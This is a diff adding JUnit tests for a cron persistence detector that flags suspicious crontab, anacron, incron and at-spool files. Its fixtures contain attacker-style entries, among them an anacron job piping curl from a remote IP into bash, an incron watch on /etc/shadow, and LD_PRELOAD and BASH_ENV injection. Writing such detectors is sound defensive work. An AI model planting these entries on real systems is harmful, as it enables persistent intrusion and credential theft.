@@ -70,4 +70,43 @@ class CronDetectorTest {
                 .packaged("logrotate", "/etc/cron.daily/logrotate", "#!/bin/sh\nfind /tmp -name '*.old' -delete\n");
         assertEquals(List.of(), root.run(new CronDetector()));
     }
+
+    @Test
+    void unownedFileIsReportedWhateverItHolds() throws Exception {
+        PackagedRoot root = new PackagedRoot(dir)
+                .write("/etc/cron.d/0hourly", "SHELL=/bin/sh\n")
+                .write("/etc/cron.d/sysstat", "*/5 * * *\n")
+                .write("/etc/cron.yearly/rotate", "");
+        List<Finding> f = root.results(new CronDetector()).findings();
+        assertEquals(List.of("medium linux.cron.unowned_file /etc/cron.d/0hourly",
+                "medium linux.cron.unowned_file /etc/cron.d/sysstat",
+                "medium linux.cron.unowned_file /etc/cron.yearly/rotate"), PackagedRoot.brief(f));
+        assertEquals(0, f.getFirst().evidence().get("entries"));
+        assertEquals(PackagedRoot.MTIME.toString(), f.getFirst().evidence().get("mtime"));
+    }
+
+    @Test
+    void environmentLinesAnacronIncronAndRedHatAtSpool() throws Exception {
+        PackagedRoot root = new PackagedRoot(dir)
+                .packaged("cron", "/etc/crontab", "SHELL=/dev/shm/.s/sh\nPATH=/usr/bin:/bin\n"
+                        + "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n")
+                .packaged("cronie-anacron", "/etc/anacrontab", "BASH_ENV=/etc/profile.d/x.sh\n"
+                        + "1 5 cron.daily nice run-parts /etc/cron.daily\n7 25 upd curl -s http://198.51.100.7/u | bash\n")
+                .packaged("incron", "/etc/incron.d/.keep", "")
+                .write("/var/spool/incron/root", "/etc/shadow IN_MODIFY /var/tmp/.u/sync $@\n")
+                .write("/var/spool/at/a0000201b2c3d4", "#!/bin/sh\nLD_PRELOAD=/lib/x.so; export LD_PRELOAD\n/usr/bin/id\n")
+                .write("/var/spool/at/.SEQ", "3\n");
+        List<Finding> f = root.results(new CronDetector()).findings();
+        assertEquals(List.of("high linux.cron.environment /etc/crontab",
+                "high linux.cron.environment /etc/anacrontab",
+                "high linux.cron.download_and_execute /etc/anacrontab",
+                "high linux.cron.runs_from_temp /var/spool/incron/root",
+                "medium linux.cron.unowned_file /var/spool/at/a0000201b2c3d4",
+                "medium linux.cron.unowned_file /var/spool/incron/root"), PackagedRoot.brief(f));
+        assertEquals("SHELL points into /dev/shm/.s/sh", f.get(0).evidence().get("indicator"));
+        assertEquals("BASH_ENV loads code into every job", f.get(1).evidence().get("indicator"));
+        assertEquals("7 25", f.get(2).evidence().get("schedule"));
+        assertEquals("/etc/shadow IN_MODIFY", f.get(3).evidence().get("schedule"));
+        assertEquals("root", f.get(3).evidence().get("user"));
+    }
 }
